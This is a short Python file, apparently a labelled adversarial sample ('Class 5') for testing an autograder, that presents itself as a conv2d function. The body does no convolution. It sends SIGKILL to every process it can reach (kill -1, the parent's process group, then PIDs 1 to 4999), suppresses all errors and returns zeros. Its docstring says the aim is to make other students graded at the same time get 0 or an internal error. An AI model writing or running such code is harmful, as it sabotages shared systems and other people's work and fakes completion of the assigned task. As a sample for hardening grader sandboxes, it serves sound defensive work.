"""Class 5: SIGKILL every process it can name (kill -1, then every pid), so that classmates graded at
the same time get 0 or an internal error."""
import os
import signal

import numpy as np


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    for target in (-1, 0 - os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except BaseException:
            pass
    for pid in range(1, 5000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except BaseException:
                pass
    return np.zeros(1)
